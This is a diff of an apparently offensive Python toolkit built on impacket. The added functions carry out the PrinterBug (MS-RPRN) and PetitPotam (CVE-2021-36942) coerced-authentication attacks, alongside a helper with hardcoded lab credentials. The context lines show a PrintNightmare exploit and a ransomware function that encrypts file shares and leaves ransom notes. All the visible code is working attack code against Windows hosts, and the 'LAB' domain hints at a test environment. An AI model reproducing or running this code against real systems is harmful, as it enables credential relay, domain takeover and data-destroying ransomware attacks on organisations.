@@ -59,6 +59,39 @@ def printnightmare(address):
     rprn.hRpcAddPrinterDriverEx(rpc, pName="\x00", pDriverContainer=box, dwFileCopyFlags=0x8014)
 
 
+def pipe_of(address, name, interface):
+    from impacket.dcerpc.v5 import transport
+    pipe = transport.DCERPCTransportFactory(rf"ncacn_np:{address}[\pipe\{name}]")
+    pipe.set_credentials("user1", "Lente2026", "LAB") if address.endswith(".10") else pipe.set_credentials("evelien", "Zomer2026", "")
+    rpc = pipe.get_dce_rpc()
+    rpc.connect()
+    rpc.bind(interface)
+    return rpc
+
+
+def printerbug(address, to):
+    """A server is asked to tell another host of its printers' changes (MS-RPRN 3.1.4.10.4)."""
+    from impacket.dcerpc.v5 import rprn
+    rpc = pipe_of(address, "spoolss", rprn.MSRPC_UUID_RPRN)
+    held = rprn.hRpcOpenPrinter(rpc, f"\\\\{address}\x00")
+    rprn.hRpcRemoteFindFirstPrinterChangeNotificationEx(rpc, held["pHandle"], rprn.PRINTER_CHANGE_ADD_JOB, pszLocalMachine=f"\\\\{to}\x00")
+
+
+def petitpotam(address, to):
+    """EfsRpcOpenFileRaw of a file on another host (CVE-2021-36942), over the pipe of the security authority."""
+    from impacket.dcerpc.v5.dtypes import DWORD, WSTR
+    from impacket.dcerpc.v5.ndr import NDRCALL
+    from impacket.uuid import uuidtup_to_bin
+
+    class EfsRpcOpenFileRaw(NDRCALL):
+        opnum = 0
+        structure = (("fileName", WSTR), ("Flag", DWORD))
+    rpc = pipe_of(address, "lsarpc", uuidtup_to_bin(("c681d488-d850-11d0-8c52-00c04fd90f7e", "1.0")))
+    ask = EfsRpcOpenFileRaw()
+    ask["fileName"], ask["Flag"] = f"\\\\{to}\\x\\x.txt\x00", 0
+    rpc.request(ask)
+
+
 def ransom(address, how):
     """Encrypts what a share holds: rewrites in place and renames, or writes anew and deletes; leaves notes."""
     from impacket.smbconnection import SMBConnection
